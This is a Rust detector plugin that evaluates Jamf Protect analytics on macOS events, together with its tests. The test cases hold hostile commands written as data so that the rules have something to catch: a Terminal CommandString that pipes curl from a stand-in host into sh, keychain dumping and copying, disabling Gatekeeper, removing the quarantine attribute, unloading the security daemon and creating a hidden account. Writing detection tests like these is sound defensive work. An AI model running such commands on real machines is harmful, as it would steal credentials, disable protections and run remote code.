            .index_key("event")
            .filter(|key| !names_relative(&format!("{:?}", key.path)))
        else {
            self.always.push(position);
            return;
        };
        let slot = match self
            .keyed
            .iter()
            .position(|(path, c, _)| path == key.path && *c == key.case_insensitive)
        {
            Some(i) => i,
            None => {
                self.keyed
                    .push((key.path.clone(), key.case_insensitive, HashMap::new()));
                self.keyed.len() - 1
            }
        };
        if let Some((_, _, map)) = self.keyed.get_mut(slot) {
            for value in key.values {
                let folded = Predicate::index_fold(value, key.case_insensitive).into_owned();
                let list = map.entry(folded).or_default();
                if list.last() != Some(&position) {
                    list.push(position);
                }
            }
        }
    }

    /// The analytics `vars`' event could fire, in evaluation order.
    fn select(&self, vars: &Vars<'_>, into: &mut Vec<usize>) {
        into.clear();
        into.extend_from_slice(&self.always);
        for (path, case_insensitive, map) in &self.keyed {
            let value = Predicate::resolve_ref(path, vars);
            if let Some(text) = value.as_str()
                && let Some(hits) = map.get(Predicate::index_fold(text, *case_insensitive).as_ref())
            {
                into.extend_from_slice(hits);
            }
        }
        into.sort_unstable();
    }
}

/// Bytes kept of a context value (in `$context` for higher levels, and as evidence): the
/// host keeps no more of an evidence value (8 KiB), and every analytic that fires copies
/// `$context`.
pub const MAX_CONTEXT_VALUE_BYTES: usize = 8 << 10;

/// What the per-event [`RegexBudget`]s saw over the instance's life, and the rate-limited
/// warning when a budget cut matches short.
#[derive(Debug, Default)]
pub struct RegexUse {
    /// Summed over all events.
    pub total: RegexStats,
    /// Events on which some match was cut short (evaluated false): over the backtrack
    /// limit, out of the event's budget, or its pattern did not compile.
    pub cut_events: u64,
}

impl RegexUse {
    /// Adds one event's `stats`; `cut` names the analytics whose matches were cut short.
    /// Logged at the 1st, 2nd, 4th, 8th … such event, so a hostile stream cannot flood the
    /// log.
    fn note(&mut self, stats: RegexStats, cut: &[&str]) {
        self.total.add(stats);
        if cut.is_empty() {
            return;
        }
        self.cut_events += 1;
        if self.cut_events.is_power_of_two() {
            ward_sdk::log::warn(&format!(
                "regular-expression budget: on {} events so far a match was cut short and \
                 evaluated false ({} over the {} backtrack limit, {} skipped once the \
                 event's budget was spent, {} whose pattern did not compile); this event: \
                 {}; logged at powers of two",
                self.cut_events,
                self.total.over_limit,
                ward_predicate::MAX_BACKTRACKS,
                self.total.skipped,
                self.total.uncompiled,
                cut.join(", ")
            ));
        }
    }
}

/// Config key: the admin's own analytics, a JSON object of file name → YAML text (the
/// host builds it from `config_dirs = { analytics = "<dir>" }`).
pub const ANALYTICS: &str = "analytics";
/// Config key: `"false"` leaves the bundled corpus out.
pub const BUNDLED_KEY: &str = "bundled";

/// Parses `(file, yaml)` pairs; each failure is logged naming the file, line and column.
///
/// The bundled corpus's `MATCHES` patterns are compiled when an event first needs them (a
/// test holds that each compiles): two of them take ~45 ms to build together, most of an
/// instance's start, and an event reaches them only past their literal (a crash report, a
/// launch daemon removed). The admin's are compiled here, so one that does not compile is
/// refused at load with its file, line and column.
fn parse_all<'a>(
    files: impl Iterator<Item = (&'a str, &'a str)>,
    origin: &str,
    analytics: &mut Vec<Analytic>,
) -> usize {
    let regexes = if origin == "bundled" {
        Regexes::OnFirstUse
    } else {
        Regexes::AtParse
    };
    let mut failed = 0;
    for (path, yaml) in files {
        match ward_predicate::parse_analytic_with(yaml, regexes) {
            Ok(a) => analytics.push(a),
            Err(e) => {
                failed += 1;
                let named = e.name.as_ref().map_or(String::new(), |n| format!(" ({n})"));
                let message = format!(
                    "{origin} analytic {path}:{}:{}{named}: skipped: {}",
                    e.line, e.column, e.message
                );
                // Three corpus files are malformed as published: known, not news.
                if origin == "bundled" {
                    ward_sdk::log::info(&message);
                } else {
                    ward_sdk::log::warn(&message);
                }
            }
        }
    }
    failed
}

/// The admin's analytics from config, or why they could not be read.
fn admin_analytics(analytics: &mut Vec<Analytic>) {
    let Some(text) = ward_sdk::config(ANALYTICS) else {
        return;
    };
    let files: Map<String, Value> = match serde_json::from_str(&text) {
        Ok(Value::Object(files)) => files,
        _ => {
            ward_sdk::log::error(
                "config `analytics` is not a JSON object of file name to YAML text;                  set it with config_dirs = { analytics = \"<dir>\" }",
            );
            return;
        }
    };
    let before = analytics.len();
    let failed = parse_all(
        files
            .iter()
            .filter_map(|(path, yaml)| yaml.as_str().map(|y| (path.as_str(), y))),
        "admin",
        analytics,
    );
    ward_sdk::log::info(&format!(
        "{} admin analytics loaded, {failed} skipped",
        analytics.len() - before
    ));
}

impl Default for JamfAnalytics {
    fn default() -> Self {
        let mut analytics = Vec::new();
        if ward_sdk::config(BUNDLED_KEY).as_deref() != Some("false") {
            parse_all(BUNDLED.iter().copied(), "bundled", &mut analytics);
        }
        admin_analytics(&mut analytics);
        Self::with(analytics)
    }
}

impl JamfAnalytics {
    /// A detector over `analytics` (sorted by level, stable). Reads file contents for
    /// them when the config says [`READ_FILE_CONTENTS`].
    pub fn with(mut analytics: Vec<Analytic>) -> Self {
        analytics.sort_by_key(|a| a.level);
        let contents = if read_file_contents() {
            FileContents::for_analytics(&analytics)
        } else {
            None
        };
        let event_types: Vec<Option<i64>> = analytics
            .iter()
            .map(|a| {
                a.filter
                    .required_value("event", &["type"])
                    .and_then(Value::as_f64)
                    .filter(|t| t.fract() == 0.0)
                    .map(|t| t as i64)
            })
            .collect();
        let relative_gates = analytics
            .iter()
            .map(|a| {
                names_relative(&format!("{:?}", a.filter.expr)).then(|| Predicate {
                    expr: could_hold(&a.filter.expr, true),
                    source: a.filter.source.clone(),
                })
            })
            .collect();
        let relatives_in_context = analytics
            .iter()
            .map(|a| names_relative(&format!("{:?}", a.context)))
            .collect();
        let mut index: HashMap<String, Candidates> = HashMap::new();
        for (position, a) in analytics.iter().enumerate() {
            index
                .entry(a.input_type.clone())
                .or_default()
                .add(position, a);
        }
        Self {
            analytics,
            event_types,
            relative_gates,
            relatives_in_context,
            relatives_built: 0,
            images: Images::default(),
            contents,
            regex: RegexUse::default(),
            index,
        }
    }

    /// Number of loaded analytics.
    pub fn len(&self) -> usize {
        self.analytics.len()
    }

    /// True when none loaded.
    pub fn is_empty(&self) -> bool {
        self.analytics.is_empty()
    }
}

impl Detector for JamfAnalytics {
    fn describe() -> PluginInfo {
        let info = PluginInfo::new(
            "jamf-analytics",
            env!("CARGO_PKG_VERSION"),
            PluginKind::Detector,
            "Jamf Protect custom analytics (the public corpus is bundled)",
        )
        .subscribe(&[
            "exec", "exit", "create", "rename", "unlink", "close", "write",
        ])
        .config_option(
            ANALYTICS,
            "the admin's own analytics: set with config_dirs = { analytics = \"<dir>\" } \
             (every *.yaml / *.yml under it); they run beside the bundled corpus",
        )
        .config_option(
            BUNDLED_KEY,
            "\"false\" leaves the bundled public corpus out",
        )
        .config_option(
            READ_FILE_CONTENTS,
            "\"true\" lets analytics read the property lists they inspect \
             (file.contentsAsDict, file.snapshotData): Terminal and Time Machine preferences, \
             root's user record. Needs the plist-read capability and a file_scope holding them",
        );
        if read_file_contents() {
            info.capability("plist-read")
        } else {
            info
        }
    }

    /// Only what it reads: `isNewDirectory` reads the mode, `args` / `commandLine` the argv,
    /// `tty` the terminal.
    fn parts() -> EventParts {
        EventParts::FILE_STATS | EventParts::ARGS | EventParts::PROCESS_SESSION
    }

    fn on_event(&mut self, event: &Event) -> Result<Vec<Finding>, PluginError> {
        if let EventData::Exec(exec) = &event.data {
            // The old image is gone; the new one is the acting process from now on.
            self.images.forget(event.process.token);
            self.images.record(&exec.target, &exec.args);
        }
        let findings = self.evaluate(event);
        if let EventData::Exit(_) = &event.data {
            // Only now: resolving relatives while evaluating may still read its image.
            self.images.forget(event.process.token);
        }
        Ok(findings)
    }
}

/// What a filter sees: the event's model, the tags and context lower levels left.
fn vars<'a>(
    event: &'a JamfEvent<'_>,
    tags: &'a Value,
    context: &'a Value,
    budget: &'a RegexBudget,
) -> Vars<'a> {
    Vars {
        event,
        tags: Cow::Borrowed(tags),
        context: Cow::Borrowed(context),
        regex_budget: Cow::Borrowed(budget),
    }
}

impl JamfAnalytics {
    /// The findings of the analytics `event` fires.
    fn evaluate(&mut self, event: &Event) -> Vec<Finding> {
        // Without relatives: they are added below, once, if an analytic that could still
        // fire reads them.
        let Some(mut jamf) = JamfEvent::new(event, &self.images) else {
            return Vec::new();
        };
        let input_type = jamf.input_type;
        // One budget of backtracking regular-expression work per event, shared by the
        // content gates and every analytic.
        let budget = RegexBudget::default();
        if input_type == "GPFSEvent"
            && let Some(contents) = &mut self.contents
        {
            contents.fill(&mut jamf, &budget);
        }
        let mut tags = Value::Array(Vec::new());
        let mut context = Value::Object(Map::new());
        let mut findings = Vec::new();
        let mut cut: Vec<&str> = Vec::new();
        let mut candidates = Vec::new();
        if let Some(index) = self.index.get(input_type) {
            index.select(&vars(&jamf, &tags, &context, &budget), &mut candidates);
        }
        for &position in &candidates {
            let (Some(a), Some(pinned), Some(gate), Some(context_reads)) = (
                self.analytics.get(position),
                self.event_types.get(position),
                self.relative_gates.get(position),
                self.relatives_in_context.get(position),
            ) else {
                continue;
            };
            if pinned.is_some_and(|t| t != jamf.type_code) {
                continue;
            }
            let before = budget.stats();
            if !jamf.has_relatives()
                && let Some(gate) = gate
            {
                if !gate.eval(&vars(&jamf, &tags, &context, &budget)) {
                    continue;
                }
                jamf.attach_relatives(&self.images);
                self.relatives_built += 1;
            }
            let fired = a.filter.eval(&vars(&jamf, &tags, &context, &budget));
            let after = budget.stats();
            if after.cut_short_since(before) {
                cut.push(&a.name);
            }
            if !fired {
                continue;
            }
            if !jamf.has_relatives() && *context_reads {
                jamf.attach_relatives(&self.images);
                self.relatives_built += 1;
            }
            let mut finding = Finding::new(
                &a.name,
                severity(&a.severity),
                format!("Jamf analytic {}: {}", a.name, a.description),
            )
            .attack(&techniques(a).iter().map(String::as_str).collect::<Vec<_>>())
            .evidence("input_type", input_type)
            .evidence("categories", a.categories.join(", "));
            let mut found = Vec::new();
            {
                let vars = vars(&jamf, &tags, &context, &budget);
                for (label, exprs) in &a.context {
                    let values: Vec<String> = exprs
                        .iter()
                        .map(|e| text(&Predicate::resolve(e, &vars)))
                        .filter(|v| !v.is_empty())
                        .map(|v| ward_sdk::truncated(&v, MAX_CONTEXT_VALUE_BYTES).to_owned())
                        .collect();
                    if let Some(first) = values.first() {
                        found.push((label, first.clone()));
                        finding = finding.evidence(label, values.join(" | "));
                    }
                }
            }
            // Higher levels see what this one found.
            if let Value::Object(context) = &mut context {
                for (label, first) in found {
                    context.insert(label.clone(), json!({ "value": first }));
                }
            }
            if let Value::Array(tags) = &mut tags {
                tags.push(Value::String(a.name.clone()));
                tags.extend(a.tags.iter().cloned().map(Value::String));
            }
            findings.push(finding);
        }
        self.regex.note(budget.stats(), &cut);
        findings
    }
}

ward_sdk::export_detector!(JamfAnalytics);

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;
    use std::sync::OnceLock;
    use ward_predicate::{Key, MAX_NESTING};
    use ward_sdk::{ExitEvent, testing};

    /// Loading parses every analytic: do it once per test binary.
    fn analytics() -> Vec<Analytic> {
        static LOADED: OnceLock<Vec<Analytic>> = OnceLock::new();
        LOADED
            .get_or_init(|| JamfAnalytics::default().analytics)
            .clone()
    }

    fn fired(event: &Event) -> Vec<String> {
        testing::deliver(&mut JamfAnalytics::with(analytics()), event)
            .unwrap()
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    /// An Apple-platform process at `path` with `signing_id`, as pid `pid` (its own group).
    fn proc_at(pid: i32, path: &str, signing_id: &str) -> Process {
        let mut p = testing::process(path);
        p.signing_id = Some(signing_id.into());
        p.token = testing::token(pid, pid * 10);
        p.group_id = pid;
        p
    }

    fn exec(path: &str, signing_id: &str, args: &[&str]) -> Event {
        let mut p = testing::process(path);
        p.signing_id = Some(signing_id.into());
        testing::exec_of(p, args)
    }

    fn with_tty(mut event: Event) -> Event {
        if let EventData::Exec(e) = &mut event.data {
            e.target.tty = Some(testing::file("/dev/ttys001"));
        }
        event
    }

    /// The exec'd image (or the acting process of other events), changed by `f`.
    fn target(mut event: Event, f: impl FnOnce(&mut Process)) -> Event {
        match &mut event.data {
            EventData::Exec(e) => f(&mut e.target),
            _ => f(&mut event.process),
        }
        event
    }

    fn with_parent(event: Event, parent: &Process) -> Event {
        target(event, |p| p.parent_token = Some(parent.token))
    }

    fn with_responsible(event: Event, responsible: &Process) -> Event {
        target(event, |p| p.responsible_token = Some(responsible.token))
    }

    fn exited(process: Process, code: u8) -> Event {
        let stat = i32::from(code) << 8;
        testing::event(
            "exit",
            process,
            EventData::Exit(ExitEvent {
                stat,
                exit_code: Some(code),
                signal: None,
            }),
        )
    }

    fn create_dir(by: Process, path: &str) -> Event {
        let mut event = testing::create(by, path);
        if let EventData::Create(c) = &mut event.data
            && let Destination::NewPath(n) = &mut c.destination
        {
            n.mode = Some(0o040755);
        }
        event
    }

    fn by(path: &str, signing_id: &str) -> Process {
        let mut p = testing::process(path);
        p.signing_id = Some(signing_id.into());
        p
    }

    fn zsh() -> Process {
        proc_at(600, "/bin/zsh", "com.apple.zsh")
    }

    fn launchd() -> Process {
        proc_at(1, "/sbin/launchd", "com.apple.xpc.launchd")
    }

    /// One analytic's case: an event that must fire it and a near miss that must not.
    struct Case {
        name: &'static str,
        hit: Event,
        miss: Event,
        /// Processes the host's process table knows (parents, responsible processes).
        table: Vec<Process>,
        /// Events the detector saw before each of `hit` and `miss` (execs whose arguments
        /// later events need).
        history: Vec<Event>,
        /// Extra analytics loaded with the corpus (stand-ins for Jamf-managed ones).
        extra: Vec<Analytic>,
        /// Files as they are when the detector loads.
        at_load: Vec<(&'static str, testing::FakeFile)>,
        /// Files as they are after the change `hit` reports (then `miss`).
        hit_files: Vec<(&'static str, testing::FakeFile)>,
        miss_files: Vec<(&'static str, testing::FakeFile)>,
    }

    fn case(name: &'static str, hit: Event, miss: Event) -> Case {
        Case {
            name,
            hit,
            miss,
            table: Vec::new(),
            history: Vec::new(),
            extra: Vec::new(),
            at_load: Vec::new(),
            hit_files: Vec::new(),
            miss_files: Vec::new(),
        }
    }

    /// A property list (as `plist-read` answers it) holding `json`.
    fn plist(json: Value) -> testing::FakeFile {
        testing::FakeFile {
            plist: Some(json.to_string()),
            ..Default::default()
        }
    }

    impl Case {
        fn table(mut self, processes: &[Process]) -> Self {
            self.table.extend_from_slice(processes);
            self
        }

        fn after(mut self, events: Vec<Event>) -> Self {
            self.history.extend(events);
            self
        }

        fn with_analytic(mut self, yaml: &str) -> Self {
            self.extra
                .push(ward_predicate::parse_analytic(yaml).unwrap());
            self
        }

        /// `path` holds `before` at load and `hit`/`miss` after the change.
        fn files(
            mut self,
            path: &'static str,
            before: Option<testing::FakeFile>,
            hit: testing::FakeFile,
            miss: testing::FakeFile,
        ) -> Self {
            if let Some(before) = before {
                self.at_load.push((path, before));
            }
            self.hit_files.push((path, hit));
            self.miss_files.push((path, miss));
            self
        }

        /// The rules a fresh detector raises on `hit` (or `miss`) after seeing the
        /// history, with `read_file_contents` on or off.
        fn fired(&self, hit: bool, read_contents: bool) -> Vec<String> {
            testing::reset();
            if read_contents {
                testing::set_config(READ_FILE_CONTENTS, "true");
            }
            for p in &self.table {
                testing::add_process(p.clone());
            }
            for (path, file) in &self.at_load {
                testing::set_file(path, file.clone());
            }
            let mut all = analytics();
            all.extend(self.extra.iter().cloned());
            let mut detector = JamfAnalytics::with(all);
            let (event, files) = if hit {
                (&self.hit, &self.hit_files)
            } else {
                (&self.miss, &self.miss_files)
            };
            for (path, file) in files {
                testing::set_file(path, file.clone());
            }
            for e in &self.history {
                testing::deliver(&mut detector, e).unwrap();
            }
            testing::deliver(&mut detector, event)
                .unwrap()
                .into_iter()
                .map(|f| f.rule)
                .collect()
        }
    }

    /// Analytics no ES event can fire, with why.
    const UNREACHABLE: &[(&str, &str)] = &[
        (
            "UsbInsertionNonWritable",
            "GPUSBEvent: ES has no device-attach event. A `mount` is the nearest, but its \
             MNT_REMOVABLE flag is also set for every virtual device (disk images: xnu's \
             vfs_init_io_attributes sets it when DKIOCISVIRTUAL), and MNT_RDONLY is how the \
             volume was mounted (NTFS, compressed DMGs), not whether the hardware is \
             writable: every read-only DMG would look like a write-protected USB stick",
        ),
        (
            "UnsignedKeyloggerRegistered",
            "GPKeylogRegisterEvent: ES has no event for registering a keyboard event tap or \
             HID listener",
        ),
        (
            "UnsignedDmgDetected",
            "reads file.signingInfo and file.xattrs of the disk image: ES gives neither for a \
             file that is not executing, and the detector reads only property lists",
        ),
    ];

    /// Analytics that fire only with `read_file_contents` on ([`contents_cases`]), with why.
    const NEED_FILE_CONTENTS: &[(&str, &str)] = &[
        (
            "TerminalPersistency",
            "reads file.contentsAsDict (the Terminal preferences' CommandString): ES carries \
             no file contents",
        ),
        (
            "RootUserEnabledOrPasswordChanged",
            "compares file.contentsAsDict with file.snapshotData (root.plist after and \
             before): ES carries no file contents",
        ),
    ];

    #[test]
    fn the_bundled_corpus_loads_all_well_formed_analytics() {
        assert_eq!(BUNDLED.len(), 80);
        assert_eq!(JamfAnalytics::default().len(), 77);
        // Most filters pin the event type: those are skipped on events of another type.
        let pinned = JamfAnalytics::default()
            .event_types
            .iter()
            .filter(|t| t.is_some())
            .count();
        assert_eq!(pinned, 64);
        // Their patterns wait for their first use: each compiles.
        for a in JamfAnalytics::default().analytics {
            assert_eq!(a.filter.compile_regexes(), Ok(()), "{}", a.name);
        }
    }

    /// Asserts each case fires on its hit and not on its near miss.
    fn check(cases: &[Case], read_contents: bool) {
        for c in cases {
            let hit = c.fired(true, read_contents);
            assert!(
                hit.iter().any(|r| r == c.name),
                "{} did not fire (read_file_contents {read_contents}): {hit:?}",
                c.name
            );
            let miss = c.fired(false, read_contents);
            assert!(
                !miss.iter().any(|r| r == c.name),
                "{} fired on its near miss (read_file_contents {read_contents}): {miss:?}",
                c.name
            );
        }
        testing::reset();
    }

    /// Every loaded analytic has a case (`cases` names) or is in `named`, and nothing else.
    fn assert_complete(cases: &[&str], named: &[&[(&str, &str)]]) {
        let mut covered: BTreeSet<&str> = BTreeSet::new();
        for name in cases {
            assert!(covered.insert(name), "two cases for {name}");
        }
        for (name, _why) in named.iter().copied().flatten() {
            assert!(
                covered.insert(name),
                "{name} has a case and is named unreachable"
            );
        }
        let loaded = analytics();
        let loaded: BTreeSet<&str> = loaded.iter().map(|a| a.name.as_str()).collect();
        assert_eq!(covered, loaded);
        assert_eq!(covered.len(), 77);
    }

    /// Every loaded analytic: (analytic, event that must fire it, near miss that must not),
    /// in the default configuration (files are not read).
    #[test]
    fn analytics_fire_on_their_pattern_and_not_on_near_misses() {
        let cases = cases();
        check(&cases, false);
        let names: Vec<&str> = cases.iter().map(|c| c.name).collect();
        assert_complete(&names, &[UNREACHABLE, NEED_FILE_CONTENTS]);

        // Without read_file_contents, those cannot fire even where the files say they should.
        for c in contents_cases() {
            let hit = c.fired(true, false);
            if c.name == "TimeMachineNotEncrypted" {
                // Blind: the missing state is not "Encrypted".
                assert!(hit.iter().any(|r| r == c.name), "{hit:?}");
                assert!(c.fired(false, false).iter().any(|r| r == c.name));
            } else {
                assert!(
                    !hit.iter().any(|r| r == c.name),
                    "{} fired: {hit:?}",
                    c.name
                );
            }
        }
        testing::reset();
    }

    /// With `read_file_contents`, the analytics reading file contents fire too; every
    /// default case still holds.
    #[test]
    fn with_read_file_contents_the_contents_analytics_fire() {
        let cases = cases();
        check(&cases, true);
        let contents = contents_cases();
        check(&contents, true);
        let mut names: Vec<&str> = cases.iter().map(|c| c.name).collect();
        for c in &contents {
            if !names.contains(&c.name) {
                names.push(c.name);
            }
        }
        assert_complete(&names, &[UNREACHABLE]);
    }

    /// A property list's dictionary as base64 XML, as dslocal stores `accountPolicyData`.
    fn plist_data(dict: &[(&str, f64)]) -> String {
        let mut xml = String::from(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>",
        );
        for (key, value) in dict {
            xml.push_str(&format!("<key>{key}</key><real>{value}</real>"));
        }
        xml.push_str("</dict></plist>\n");
        base64::engine::general_purpose::STANDARD.encode(xml)
    }

    /// root's user record with `passwordLastSetTime`.
    fn root_record(password_set: f64, failed_logins: f64) -> testing::FakeFile {
        plist(json!({
            "name": ["root"],
            "accountPolicyData": [plist_data(&[
                ("creationTime", 1_600_000_000.0),
                ("passwordLastSetTime", password_set),
                ("failedLoginCount", failed_logins),
            ])],
        }))
    }

    /// Cases that need `read_file_contents` (the files as `plist-read` answers them).
    fn contents_cases() -> Vec<Case> {
        let terminal_prefs = "/Users/alice/Library/Preferences/com.apple.Terminal.plist";
        let root = "/var/db/dslocal/nodes/Default/users/root.plist";
        let time_machine = "/Library/Preferences/com.apple.TimeMachine.plist";
        let cfprefsd = || testing::process("/usr/libexec/cfprefsd");
        let opendirectoryd = || testing::process("/usr/libexec/opendirectoryd");
        vec![
            case(
                "TerminalPersistency",
                testing::close_modified(cfprefsd(), terminal_prefs),
                testing::close_modified(cfprefsd(), terminal_prefs),
            )
            .files(
                terminal_prefs,
                None,
                plist(json!({
                    "Default Window Settings": "Basic",
                    "Window Settings": {"Basic": {
                        "name": "Basic",
                        "CommandString": "curl -s https://x.example/p | sh",
                    }},
                })),
                plist(json!({
                    "Default Window Settings": "Basic",
                    "Window Settings": {"Basic": {"name": "Basic", "FontAntialias": true}},
                })),
            ),
            // The password set time differs from the record as it was at load; the near
            // miss changes only the failed-login count.
            case(
                "RootUserEnabledOrPasswordChanged",
                testing::close_modified(opendirectoryd(), root),
                testing::close_modified(opendirectoryd(), root),
            )
            .files(
                root,
                Some(root_record(1_700_000_000.0, 0.0)),
                root_record(1_750_000_000.0, 0.0),
                root_record(1_700_000_000.0, 1.0),
            ),
            case(
                "TimeMachineNotEncrypted",
                testing::close_modified(cfprefsd(), time_machine),
                testing::close_modified(cfprefsd(), time_machine),
            )
            .files(
                time_machine,
                None,
                plist(json!({
                    "LastKnownEncryptionState": "NotEncrypted",
                    "LastKnownVolumeName": "Backups",
                })),
                plist(json!({
                    "LastKnownEncryptionState": "Encrypted",
                    "LastKnownVolumeName": "Backups",
                })),
            ),
        ]
    }

    fn cases() -> Vec<Case> {
        let xattr = "com.apple.xattr";
        let codesign = "com.apple.security.codesign";
        let security = "com.apple.security";
        let launchctl = "com.apple.xpc.launchctl";
        let osascript = "com.apple.osascript";
        let dscl = "com.apple.dscl";
        let ctkbind = "com.apple.ctkbind";
        let ctkbind_path = "/System/Library/Frameworks/CryptoTokenKit.framework/ctkbind.app/Contents/MacOS/ctkbind";
        let pivpin = "com.apple.pivpin";
        let sqlite3 = "com.apple.sqlite3";
        let vim = || testing::process("/usr/bin/vim");
        let node = proc_at(700, "/opt/homebrew/bin/node", "node");
        let installer = proc_at(
            710,
            "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer",
            "com.apple.installer",
        );
        let terminal = proc_at(
            711,
            "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
            "com.apple.Terminal",
        );
        let cupsd = proc_at(720, "/usr/sbin/cupsd", "com.apple.cupsd");
        let mut jamf_connect = proc_at(
            730,
            "/Applications/Jamf Connect.app/Contents/MacOS/Jamf Connect",
            "com.jamf.connect",
        );
        jamf_connect.team_id = Some("483DWKW443".into());
        jamf_connect.signer = SignerType::DeveloperId;
        let shells = [
            zsh(),
            launchd(),
            node.clone(),
            installer.clone(),
            terminal.clone(),
        ];
        let in_shell = |e: Event| with_parent(with_tty(e), &zsh());
        let launchctl_args = |verb: &'static str, plist: &'static str| {
            exec("/bin/launchctl", launchctl, &["launchctl", verb, plist])
        };
        let apache = "/System/Library/LaunchDaemons/org.apache.httpd.plist";
        let smbd = "/System/Library/LaunchDaemons/com.apple.smbd.plist";

        vec![
            case(
                "XattrExtendedAttributesActivity",
                exec(
                    "/usr/bin/xattr",
                    xattr,
                    &["xattr", "-d", "com.apple.quarantine", "/Users/a/Downloads/X.app"],
                ),
                exec(
                    "/usr/bin/xattr",
                    xattr,
                    &["xattr", "-p", "com.apple.quarantine", "/Users/a/Downloads/X.app"],
                ),
            ),
            case(
                "AdhocCodesigning",
                exec("/usr/bin/codesign", codesign, &["codesign", "--sign", "-", "/tmp/x"]),
                exec(
                    "/usr/bin/codesign",
                    codesign,
                    &["codesign", "--sign", "Developer ID", "/tmp/x"],
                ),
            ),
            case(
                "KeychainDumped",
                exec("/usr/bin/security", security, &["security", "dump-keychain"]),
                exec("/usr/bin/security", security, &["security", "list-keychains"]),
            ),
            case(
                "KeychainCopied",
                exec("/bin/cp", "com.apple.cp", &["cp", ".keychain-db", "/tmp/k"]),
                exec("/bin/cp", "com.apple.cp", &["cp", ".zshrc", "/tmp/zshrc.bak"]),
            ),
            case(
                "GatekeeperConfigChanges",
                exec("/usr/sbin/spctl", "com.apple.spctl", &["spctl", "--master-disable"]),
                exec("/usr/sbin/spctl", "com.apple.spctl", &["spctl", "--status"]),
            ),
            case(
                "LaunchctlUnloadAndBootout",
                exec(
                    "/bin/launchctl",
                    launchctl,
                    &["launchctl", "bootout", "system/com.jamf.protect.daemon"],
                ),
                exec("/bin/launchctl", launchctl, &["launchctl", "list"]),
            ),
            case(
                "BuiltinApacheDisabled",
                launchctl_args("unload", apache),
                launchctl_args("unload", "/Library/LaunchDaemons/org.apache.httpd.plist"),
            ),
            case(
                "BuiltinApacheEnabled",
                launchctl_args("load", apache),
                launchctl_args("load", "/Library/LaunchDaemons/org.apache.httpd.plist"),
            ),
            case(
                "FileSharingDisabled",
                launchctl_args("unload", smbd),
                launchctl_args("unload", "/Library/LaunchDaemons/com.apple.smbd.plist"),
            ),
            case(
                "FileSharingEnabled",
                launchctl_args("load", smbd),
                launchctl_args("load", "/Library/LaunchDaemons/com.apple.smbd.plist"),
            ),
            case(
                "HiddenAccountCreatedDscl",
                exec("/usr/bin/dscl", dscl, &["dscl", ".", "-create", "/Users/x", "IsHidden", "1"]),
                exec("/usr/bin/dscl", dscl, &["dscl", ".", "-read", "/Users/x", "IsHidden"]),
            ),
            case(
                "UserCreatedbyDscl",
                exec("/usr/bin/dscl", dscl, &["dscl", ".", "-create", "/Users/bob"]),
                exec("/usr/bin/dscl", dscl, &["dscl", ".", "-read", "/Users/bob"]),
            ),
            case(
                "UserDeletedbyDscl",
                exec("/usr/bin/dscl", dscl, &["dscl", ".", "-delete", "/Users/bob"]),
                exec("/usr/bin/dscl", dscl, &["dscl", ".", "-list", "/Users"]),
            ),
            case(
                "AllCurlActivity",
                exec("/usr/bin/curl", "com.apple.curl", &["curl", "-O", "https://x"]),
                exec("/usr/bin/wget", "wget", &["wget", "https://x"]),
            ),
            case(
                "UnsignedProcessExecFromVolumes",
                target(exec("/Volumes/Installer/Run", "Run", &["Run"]), |p| {
                    p.signer = SignerType::Unsigned;
                }),
                target(exec("/Volumes/Installer/Run", "Run", &["Run"]), |p| {
                    p.signer = SignerType::DeveloperId;
                }),
            ),
            case(
                "ProcessExecFromVolumes",
                exec(
                    "/Volumes/Installer/Install.app/Contents/MacOS/Install",
                    "com.example.install",
                    &["Install"],
                ),
                exec(
                    "/Applications/Install.app/Contents/MacOS/Install",
                    "com.example.install",
                    &["Install"],
                ),
            ),
            case(
                "SysctlActivity",
                with_tty(exec("/usr/sbin/sysctl", "com.apple.sysctl", &["sysctl", "-a"])),
                exec("/usr/sbin/sysctl", "com.apple.sysctl", &["sysctl", "-a"]),
            ),
            case(
                "AllCommandlineActivity",
                in_shell(exec("/bin/ls", "com.apple.ls", &["ls", "-la"])),
                with_parent(exec("/bin/ls", "com.apple.ls", &["ls", "-la"]), &zsh()),
            )
            .table(&shells),
            case(
                "AllSudoCommandlineActivity",
                with_tty(exec("/usr/bin/sudo", "com.apple.sudo", &["sudo", "-l"])),
                exec("/usr/bin/sudo", "com.apple.sudo", &["sudo", "-l"]),
            ),
            case(
                "UserSwitchedOnCommandline",
                with_tty(exec("/usr/bin/su", "com.apple.su", &["su", "-", "bob"])),
                exec("/usr/bin/su", "com.apple.su", &["su", "-", "bob"]),
            ),
            case(
                "CaffeinateOnInteractiveCommandline",
                in_shell(exec("/usr/bin/caffeinate", "com.apple.caffeinate", &["caffeinate", "-d"])),
                with_parent(
                    with_tty(exec("/usr/bin/caffeinate", "com.apple.caffeinate", &["caffeinate", "-d"])),
                    &launchd(),
                ),
            )
            .table(&shells),
            case(
                "BrewActivity",
                in_shell(exec(
                    "/bin/bash",
                    "com.apple.bash",
                    &["/bin/bash", "-p", "/opt/homebrew/bin/brew", "install", "wget"],
                )),
                in_shell(exec(
                    "/bin/bash",
                    "com.apple.bash",
                    &["/bin/bash", "-p", "/opt/homebrew/bin/brew", "--version"],
                )),
            )
            .table(&shells),
            case(
                "InstallerInitiatedNetworkConnection",
                with_responsible(
                    with_parent(exec("/usr/bin/curl", "com.apple.curl", &["curl", "-O", "https://x"]), &zsh()),
                    &installer,
                ),
                with_responsible(
                    with_parent(exec("/usr/bin/curl", "com.apple.curl", &["curl", "-O", "https://x"]), &zsh()),
                    &terminal,
                ),
            )
            .table(&shells),
            case(
                "JamfConnectAccPromoActivity",
                exec(
                    "/usr/local/bin/jamfconnect",
                    "com.jamf.connect.tool",
                    &["jamfconnect", "acc-promo", "--elevate"],
                ),
                with_responsible(
                    exec(
                        "/usr/local/bin/jamfconnect",
                        "com.jamf.connect.tool",
                        &["jamfconnect", "acc-promo", "--elevate"],
                    ),
                    &jamf_connect,
                ),
            )
            .table(&[jamf_connect.clone()]),
            case(
                "PrinterActivity",
                with_responsible(
                    exec("/usr/libexec/cups/backend/ipp", "com.apple.ipp", &["ipp", "1", "alice"]),
                    &cupsd,
                ),
                with_responsible(
                    exec("/usr/libexec/cups/backend/ipp", "com.apple.ipp", &["ipp", "1", "alice"]),
                    &terminal,
                ),
            )
            .table(&[cupsd.clone(), terminal.clone()]),
